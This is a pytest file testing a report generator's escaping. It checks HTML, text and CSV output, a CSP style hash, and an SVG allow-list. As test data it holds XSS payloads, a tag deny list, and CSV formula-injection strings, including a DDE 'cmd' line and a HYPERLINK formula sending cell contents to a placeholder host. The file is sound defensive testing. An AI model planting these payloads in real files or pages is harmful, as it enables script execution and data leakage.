"""Reports: user text stays text in HTML, plain text and CSV; every result shows its method and source.

Outside references:
- HTML: parsed with Python's html.parser (WHATWG tokenisation rules for start/end tags and
  character references); an injected element would show up as a start tag.
- CSV: RFC 4180 §2 (records end in CRLF; fields separated by commas; a field holding a
  comma, double quote, CR or LF is enclosed in double quotes; a quote inside is doubled),
  checked with a small reader written here from that grammar and with the csv module.
- Formula injection: OWASP "CSV Injection" page (from memory): a cell starting with
  = + - @ tab (0x09) or carriage return (0x0D) may be run as a formula by spreadsheet
  programs; prefix such cells with a single quote.
- CSP: W3C Content Security Policy Level 3, hash-source = "sha256-" + base64 of the SHA-256
  of the element's text encoded as UTF-8 (from memory).
- Units: 0.05 kHz = 50 Hz by the SI prefix kilo = 10³ (SI Brochure, 9th edition, Table 7).
"""

import base64
import csv
import hashlib
import io
import json
import re
from html.parser import HTMLParser

import pytest

import app.bridge as bridge
from app import report
from helpers import run

DATE = "2025-03-14"
STAMP = "2025-03-14T09:26:53.589Z"

SITE = '<script>alert("site")</script> Mill & Co <img src=x onerror=alert(1)> "quoted", comma'
NOTES = (
    'line 1 </p><iframe src="javascript:alert(3)"></iframe>\n'
    "== CAUTIONS ==\n"
    '"><svg onload=alert(2)>\n'
    "</style><style>body{display:none}</style><!-- c --> &amp; &lt;"
)
PAYLOAD = '<script>alert("in")</script><b onmouseover=alert(5)>x</b>'
SHORT = "<i>€</i>&lt;"  # short enough for small text fields (a currency name)
NAMES = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1 tabbed",
    "\r=1+1 carriage",
    "<b onmouseover=alert(5)>Panel B</b>",
    'Feeder "7", east\u202eevil',
]
DANGER = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV Injection (from memory)
DANGER_CELL = DANGER + ("\n",)  # the report writes a lone CR as LF, so LF leads such a cell too
NUMBER = re.compile(r"-?\d+(\.\d*)?([eE][-+]?\d+)?\Z")  # a plain number is never a formula


def _payload_inputs(sheet):
    """Every field as its default, with markup payloads in every free-text place."""
    inputs = {}
    for f in sheet.fields:
        v = f.default
        if f.kind == "text":
            v = SHORT
        elif f.kind == "table" and v:
            rows = json.loads(v)
            for row in rows:
                for k, c in enumerate(f.columns):
                    if c.kind == "text" and isinstance(row, list) and k < len(row) and c.name == "name":
                        row[k] = PAYLOAD
            v = json.dumps(rows)
        inputs[f.name] = v
    return inputs


def _job():
    entries = []
    k = 0
    for ws, sheet in bridge.sheets().items():
        k += 1
        defaults = {f.name: f.default for f in sheet.fields}
        entries.append({"id": f"d{k}", "name": NAMES[k % len(NAMES)] + f" {ws}", "worksheet": ws,
                        "inputs": defaults, "updated": STAMP})
        entries.append({"id": f"p{k}", "name": f"payload {ws} {PAYLOAD}", "worksheet": ws,
                        "inputs": _payload_inputs(sheet), "updated": STAMP})
    # a number field given markup: the field's error message must be escaped too
    entries.append({"id": "bad1", "name": NAMES[0] + " bad input", "worksheet": "impedance",
                    "inputs": {"mode": "z", "z": PAYLOAD, "f": "<img src=x onerror=alert(7)>"}, "updated": STAMP})
    for i, n in enumerate(NAMES):
        entries.append({"id": f"n{i}", "name": n, "worksheet": "impedance",
                        "inputs": {"mode": "z", "z": "3 + j4", "f": "0.05 kHz"}, "updated": STAMP})
    return {"id": "job-x", "site": SITE, "date": "2025-03-14", "notes": NOTES, "created": STAMP,
            "updated": STAMP, "entries": entries}


def _one_line(s):
    """What the report shows for single-line user text: controls gone, breaks as spaces."""
    s = s.replace("\u202e", "")
    return s.replace("\r", " ").replace("\t", " ").replace("\n", " ")


# ---------------------------------------------------------------------------------------
# an HTML reader that records tags, attributes, text per element, table rows, and balance

VOID = {"meta", "col", "br", "hr", "img", "input", "link", "area", "base", "wbr", "source"}


class Doc(HTMLParser):
    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.stack, self.tags, self.attrs, self.errors = [], [], [], []
        self.texts = {}  # tag → list of text of each element of that tag
        self.rows, self.row, self.cell = [], None, None
        self.open_text = []
        self.feed(text)
        self.close()
        if self.stack:
            self.errors.append(f"unclosed {self.stack}")

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.append((tag, attrs))
        if tag == "tr":
            self.row = []
        if tag in ("td", "th"):
            self.cell = []
        if tag not in VOID:
            self.stack.append(tag)
            self.open_text.append([tag, []])

    def handle_startendtag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            self.errors.append(f"</{tag}> does not close {self.stack[-1:] }")
            return
        self.stack.pop()
        t, parts = self.open_text.pop()
        self.texts.setdefault(tag, []).append("".join(parts))
        if tag in ("td", "th") and self.row is not None:
            self.row.append("".join(self.cell))
            self.cell = None
        if tag == "tr":
            self.rows.append(self.row)
            self.row = None

    def handle_data(self, data):
        for _, parts in self.open_text:
            parts.append(data)
        if self.cell is not None:
            self.cell.append(data)


@pytest.fixture(scope="module")
def job():
    return _job()


@pytest.fixture(scope="module")
def html_doc(job):
    text = report.render(job, "html", app_version="0.1.0", date=DATE)
    return text, Doc(text)


@pytest.fixture(scope="module")
def computed(job):
    """Each entry computed independently, as the report must show it."""
    return {e["id"]: run(e["worksheet"], e["inputs"]) for e in job["entries"]}


ALLOWED = {
    "html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "h1", "h2", "h3",
    "p", "table", "caption", "colgroup", "col", "thead", "tbody", "tr", "th", "td", "ul", "li", "strong", "em",
    "span", "a", "figure", "figcaption",
    # figures (SVG)
    "svg", "title", "desc", "g", "line", "polyline", "polygon", "circle", "ellipse", "rect", "path", "text", "tspan",
}


def test_html_parses_and_is_balanced(html_doc):
    text, doc = html_doc
    assert text.startswith("<!DOCTYPE html>\n<html lang=\"en\">")
    assert doc.errors == []
    assert doc.tags.count("html") == doc.tags.count("body") == doc.tags.count("head") == 1


def test_html_holds_no_injected_element_or_attribute(html_doc):
    _, doc = html_doc
    assert set(doc.tags) <= ALLOWED, set(doc.tags) - ALLOWED
    for bad in ("script", "img", "iframe", "b", "object", "embed", "form", "input", "link", "base"):
        assert bad not in doc.tags
    assert doc.tags.count("style") == 1
    for tag, attrs in doc.attrs:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert "javascript:" not in (value or "").lower()
            if name == "href":
                assert re.fullmatch(r"#entry-\d+", value), value
            if name == "src":
                pytest.fail(f"a src attribute on {tag}")


def test_html_shows_user_text_as_text(html_doc, job):
    _, doc = html_doc
    assert SITE in doc.texts["h1"][0]
    assert any(SITE in t for t in doc.texts["title"])
    notes = [t for t in doc.texts["p"] if "line 1" in t]
    assert notes == [NOTES]  # all four lines, markup and all, as text in one paragraph
    h2 = "\n".join(doc.texts["h2"])
    for e in job["entries"]:
        assert _one_line(e["name"]) in h2
    assert "\u202e" not in "".join(doc.texts["h2"])  # bidi override removed


def test_html_ids_unique(html_doc):
    _, doc = html_doc
    ids = [v for _, attrs in doc.attrs for n, v in attrs if n == "id"]
    assert len(ids) == len(set(ids))
    # every aria-labelledby points at an id in the document
    for _, attrs in doc.attrs:
        for n, v in attrs:
            if n == "aria-labelledby":
                assert all(t in ids for t in v.split())


def test_html_csp_allows_only_its_own_style(html_doc):
    text, doc = html_doc
    csp = [dict(a)["content"] for t, a in doc.attrs if t == "meta" and dict(a).get("http-equiv") == "Content-Security-Policy"]
    assert len(csp) == 1
    policy = csp[0]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "script-src" not in policy
    style = doc.texts["style"][0]
    digest = base64.b64encode(hashlib.sha256(style.encode("utf-8")).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in policy
    # laid out for print: page rule with margins (A4 and Letter both take 'auto')
    assert "@page{size:auto;margin:" in style


def test_html_every_result_with_method_and_source(html_doc, job, computed):
    _, doc = html_doc
    rows = [r for r in doc.rows if r and len(r) == 4]
    n_checked = 0
    for e in job["entries"]:
        res = computed[e["id"]]
        for r in res["results"]:
            hit = [row for row in rows if row[0] == r["label"] and row[1].startswith(r["display"])
                   and row[2] == r["method"] and row[3] == r["source"]]
            assert hit, (e["worksheet"], r["label"])
            n_checked += 1
        for w in res["warnings"]:
            assert w in doc.texts["li"]
        for c in res["cautions"]:
            assert c in doc.texts["li"]
        for name, msg in res["field_errors"].items():
            assert any(t.endswith(": " + msg) for t in doc.texts["li"]), msg
    assert n_checked > 50


def test_html_input_in_another_prefix_is_shown_in_the_field_unit(html_doc):
    _, doc = html_doc
    # 0.05 kHz typed in a Hz field = 50 Hz (SI prefix kilo = 10³)
    assert any(r[:3] == ["Frequency [Hz]", "0.05 kHz", "50 Hz"] for r in doc.rows if r and len(r) == 3)


def _used_job(inputs):
    return {"id": "j-used", "site": "Used values", "date": "", "notes": "", "created": STAMP, "updated": STAMP,
            "entries": [{"id": "u1", "name": "Bus 1", "worksheet": "correction", "inputs": inputs, "updated": STAMP}]}


V_LABEL = "System voltage (line-to-line) [V]"
F_LABEL = "Frequency [Hz]"


def test_report_shows_the_value_the_computation_used():
    """'0.48 kV' typed in a volts field is used as 480 V (SI prefix kilo = 10³), and the report
    says so in every format: HTML and text beside the entry, CSV as the machine value."""
    job = _used_job({"v_ll": "0.48 kV"})
    doc = Doc(report.render(job, "html", app_version="0.1.0", date=DATE))
    assert [V_LABEL, "0.48 kV", "480 V"] in doc.rows
    text = report.render(job, "text", app_version="0.1.0", date=DATE)
    assert f"     {V_LABEL}: 0.48 kV  -> 480 V\n" in text
    rows = list(csv.reader(io.StringIO(report.render(job, "csv", app_version="0.1.0", date=DATE, bom=False))))
    v = [r for r in rows if r[3] == "input" and r[4] == "v_ll"]
    assert len(v) == 1 and float(v[0][6]) == 480.0 and v[0][7] == "V" and v[0][8] == "0.48 kV"


@pytest.mark.parametrize("typed", ["1 kHz", "0.01 kHz"])  # 1000 Hz and 10 Hz: outside the field's 16.7–400 Hz
def test_report_marks_an_out_of_range_value_invalid_not_used(typed):
    """A value the range check refuses was not used: the report must not echo it as if it were
    (1 kHz would otherwise read '1000 Hz' in the 'value used' column)."""
    job = _used_job({"v_ll": "0.48 kV", "f": typed})
    out = run("correction", job["entries"][0]["inputs"])
    assert out["ok"] is False and "f" in out["field_errors"]
    doc = Doc(report.render(job, "html", app_version="0.1.0", date=DATE))
    assert [F_LABEL, typed, "(invalid)"] in doc.rows
    assert not any(r[:1] == [F_LABEL] and "Hz" in r[-1] for r in doc.rows if len(r) == 3)
    assert f"{F_LABEL.split(' [')[0]}: {out['field_errors']['f']}" in doc.texts["li"]
    text = report.render(job, "text", app_version="0.1.0", date=DATE)
    assert f"     {F_LABEL}: {typed}  -> (invalid)\n" in text
    rows = list(csv.reader(io.StringIO(report.render(job, "csv", app_version="0.1.0", date=DATE, bom=False))))
    f_row = [r for r in rows if r[3] == "input" and r[4] == "f"]
    assert len(f_row) == 1 and f_row[0][6] == typed  # the text entered, not a number taken as used


def test_report_marks_a_field_the_computation_never_read():
    # a bad system voltage stops the computation before it reads the power factor's sense
    job = _used_job({"v_ll": "abc"})
    doc = Doc(report.render(job, "html", app_version="0.1.0", date=DATE))
    assert any(r[0] == "The power factor is" and r[2] == "(not used)" for r in doc.rows if len(r) == 3), \
        [r for r in doc.rows if len(r) == 3]
    assert [V_LABEL, "abc", "(invalid)"] in doc.rows


def test_html_one_entry(job):
    target = job["entries"][1]
    text = report.render(job, "html", app_version="0.1.0", date=DATE, entry_id=target["id"])
    doc = Doc(text)
    assert doc.errors == []
    assert len([h for h in doc.texts["h2"] if h.startswith(("1.", "2.", "3."))]) == 1
    assert _one_line(target["name"]) in doc.texts["h1"][0]
    assert not any(NAMES[3] in h for h in doc.texts["h2"])
    with pytest.raises(LookupError):
        report.render(job, "html", app_version="0.1.0", date=DATE, entry_id="nope")


def test_report_of_unknown_worksheet_entry_lists_its_inputs():
    job = {"id": "j", "site": "s", "date": "", "notes": "", "created": STAMP, "updated": STAMP,
           "entries": [{"id": "e", "name": "old", "worksheet": "retired_sheet", "inputs": {"a": "<i>1</i>"}, "updated": STAMP}]}
    for fmt in ("html", "text", "csv"):
        out = report.render(job, fmt, app_version="0.1.0", date=DATE)
        assert "retired_sheet" in out
    doc = Doc(report.render(job, "html", app_version="0.1.0", date=DATE))
    assert "i" not in doc.tags and ["a", "<i>1</i>"] in doc.rows


# ---------------------------------------------------------------------------------------
# plain text


def test_text_keeps_user_text_as_text_and_cannot_fake_headings(job, computed):
    text = report.render(job, "text", app_version="0.1.0", date=DATE)
    assert f"Site: {SITE}\n" in text
    for line in NOTES.split("\n"):
        assert f"\n    {line}\n" in text  # notes indented, so '== CAUTIONS ==' cannot pose as a heading
    assert "\n== CAUTIONS ==" not in text
    assert "\r" not in text and "\t" not in text and "\u202e" not in text
    lines = text.split("\n")
    for e in job["entries"]:
        assert any(_one_line(e["name"]) in ln for ln in lines)
        for r in computed[e["id"]]["results"]:
            assert any(ln.endswith(f"{r['label']}: {r['display']}") or f"{r['label']}: {r['display']}  [" in ln
                       for ln in lines), r["label"]
            assert f"method: {r['method']}" in text and f"source: {r['source']}" in text
    assert "Fieldphasor 0.1.0" in text and DATE in text


def test_text_brief_leaves_out_methods():
    job = _job()
    brief = report.render(job, "text", app_version="0.1.0", date=DATE, detail="brief")
    full = report.render(job, "text", app_version="0.1.0", date=DATE)
    assert "method:" not in brief and "method:" in full and len(brief) < len(full)


# ---------------------------------------------------------------------------------------
# CSV


def rfc4180_records(text):
    """A reader written from the RFC 4180 grammar: records separated by CRLF, fields by
    commas, escaped fields in double quotes with "" for a quote; a non-escaped field holds
    no quote, CR or LF. Raises AssertionError where the text breaks the grammar."""
    records, fields, i, n = [], [], 0, len(text)
    while i < n:
        if text[i] == '"':
            i += 1
            buf = []
            while True:
                assert i < n, "unterminated quoted field"
                if text[i] == '"':
                    if i + 1 < n and text[i + 1] == '"':
                        buf.append('"')
                        i += 2
                        continue
                    i += 1
                    break
                buf.append(text[i])
                i += 1
            fields.append("".join(buf))
        else:
            j = i
            while j < n and text[j] not in ',\r\n"':
                j += 1
            assert j >= n or text[j] != '"', "quote inside a non-escaped field"
            fields.append(text[i:j])
            i = j
        if i < n and text[i] == ",":
            i += 1
            if i == n:
                fields.append("")
            continue
        assert i == n or text[i:i + 2] == "\r\n", f"record not ended by CRLF at {i}"
        records.append(fields)
        fields = []
        i += 2
    assert not fields
    return records


@pytest.fixture(scope="module")
def csv_rows(job):
    text = report.render(job, "csv", app_version="0.1.0", date=DATE)
    assert text.startswith("\ufeff")  # UTF-8 byte-order mark for spreadsheet programs
    body = text[1:]
    assert body.endswith("\r\n")
    mine = rfc4180_records(body)
    theirs = list(csv.reader(io.StringIO(body, newline=""), strict=True))
    assert mine == theirs
    return mine


def test_csv_header_and_shape(csv_rows):
    assert csv_rows[0] == ["job", "entry", "worksheet", "kind", "name", "label", "value", "unit", "display",
                           "method", "source"]
    assert all(len(r) == 11 for r in csv_rows)


def test_csv_no_cell_can_start_a_formula(csv_rows):
    for r in csv_rows:
        for cell in r:
            if cell.lstrip(" ").startswith(DANGER_CELL):
                assert NUMBER.match(cell), cell


def test_csv_user_text_kept_with_an_apostrophe(csv_rows, job):
    assert csv_rows[1][0] == "'" + SITE if SITE.startswith(DANGER) else csv_rows[1][0] == SITE
    entries = {r[1] for r in csv_rows[1:]}
    assert "'" + NAMES[0] in entries  # =HYPERLINK(...)
    assert "'+SUM(1,2)" in entries
    assert "'-2+3+cmd|' /C calc'!A0" in entries
    assert "'@SUM(A1:A2)" in entries
    assert 'Feeder "7", eastevil' in entries  # quote and comma survive; bidi override dropped
    notes = [r for r in csv_rows if r[3] == "meta" and r[4] == "notes"]
    assert notes[0][6] == NOTES


def test_csv_every_result_with_method_and_source(csv_rows, job, computed):
    def cell(s):
        return "'" + s if s.lstrip(" ").startswith(DANGER_CELL) and not NUMBER.match(s) else s

    by_entry = {}
    for r in csv_rows[1:]:
        by_entry.setdefault(r[1], []).append(r)
    for e in job["entries"]:
        # CSV keeps the text whole (tab kept, a lone CR read as a line break), bidi override dropped
        rows = by_entry[cell(e["name"].replace("\u202e", "").replace("\r", "\n"))]
        res = computed[e["id"]]
        results = [r for r in rows if r[3] == "result"]
        assert len(results) == len(res["results"])
        for got, r in zip(results, res["results"]):
            assert got[2] == e["worksheet"] and got[4] == r["name"] and got[5] == cell(r["label"])
            assert got[7] == r["unit"] and got[8] == cell(r["display"])
            assert got[9] == cell(r["method"]) and got[10] == cell(r["source"])
            if r["value"] is None:
                assert got[6] == ""
            else:
                assert float(got[6]) == r["value"]  # the full value, not the rounded display
        assert [r[6] for r in rows if r[3] == "warning"] == [cell(w) for w in res["warnings"]]


def test_csv_inputs_in_field_units(csv_rows):
    hz = [r for r in csv_rows if r[3] == "input" and r[4] == "f" and r[8] == "0.05 kHz"]
    assert hz and all(float(r[6]) == 50.0 and r[7] == "Hz" for r in hz)  # kilo = 10³


def test_csv_without_bom():
    text = report.render(_job(), "csv", app_version="0.1.0", date=DATE, bom=False)
    assert text.startswith("job,entry,")


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"), ("  =1", "'  =1"), ("-12.5", "-12.5"), ("-1e-05", "-1e-05"), ("12", "12"),
        ("a=1", "a=1"), ("", ""), ("\uff1dSUM(1)", "'\uff1dSUM(1)"),
    ],
)
def test_csv_cell_neutralisation(text, expected):
    # OWASP CSV Injection (from memory); '\r' becomes a line break inside a quoted cell
    assert report.csv_cell(text) == expected


# ---------------------------------------------------------------------------------------
# figures and the bridge


def test_safe_svg_allow_list():
    from app.svg import Svg

    s = Svg(100, 50, "A <title> & more", "desc")
    s.line(0, 0, 10, 10)
    s.text(5, 5, "<script>x</script>")
    good = report.safe_svg(str(s), "f1-")
    assert good and 'id="f1-t"' in good and 'aria-labelledby="f1-t f1-d"' in good
    bad = [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div/></foreignObject></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:1">'
        "<text>t</text></a></svg>",
        '<svg xmlns="http://www.w3.org/2000/svg"><style>*{}</style></svg>',
        '<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"/>',
        "<svg><line/></svg>",  # no SVG namespace
        "<svg",
        '<div xmlns="http://www.w3.org/2000/svg"/>',
    ]
    for b in bad:
        assert report.safe_svg(b, "f-") is None, b


def test_bridge_report_formats(job):
    for fmt, mime, ext in [("html", "text/html", "html"), ("text", "text/plain", "txt"), ("csv", "text/csv", "csv")]:
        res = json.loads(bridge.report(json.dumps(job), fmt, json.dumps({"date": DATE})))
        assert res["ok"] and res["mime"] == mime
        assert re.fullmatch(r"[a-z0-9-]+\." + ext, res["filename"]), res["filename"]
        assert res["text"] == report.render(job, fmt, app_version=bridge.version(), date=DATE)
        assert "<" not in res["title"] or SITE in res["title"]  # the title is plain text for the share sheet
    one = json.loads(bridge.report(json.dumps(job), "text", json.dumps({"entry_id": "n1", "date": DATE})))
    assert one["ok"] and "sum-1-2" in one["filename"]
    letter = json.loads(bridge.report(json.dumps(job), "html", json.dumps({"paper": "letter"})))
    assert "@page{size:letter;" in letter["text"]
    a4 = json.loads(bridge.report(json.dumps(job), "html", json.dumps({"paper": "A4"})))
    assert "@page{size:A4;" in a4["text"]


@pytest.mark.parametrize(
    "job_json, fmt, opts",
    [("{", "html", "{}"), ("[]", "html", "{}"), ('{"entries": []}', "pdf", "{}"),
     ('{"entries": []}', "html", "[1]"), ('{"entries": []}', "html", '{"entry_id": "x"}')],
)
def test_bridge_report_errors_never_raise(job_json, fmt, opts):
    res = json.loads(bridge.report(job_json, fmt, opts))
    assert res["ok"] is False and res["error"]


def test_report_survives_odd_job_shapes():
    odd = {"site": 5, "notes": None, "entries": [None, 3, {"inputs": "x"}, {"worksheet": "impedance", "inputs": {"f": 7}}]}
    for fmt in ("html", "text", "csv"):
        res = json.loads(bridge.report(json.dumps(odd), fmt, "{}"))
        assert res["ok"], res
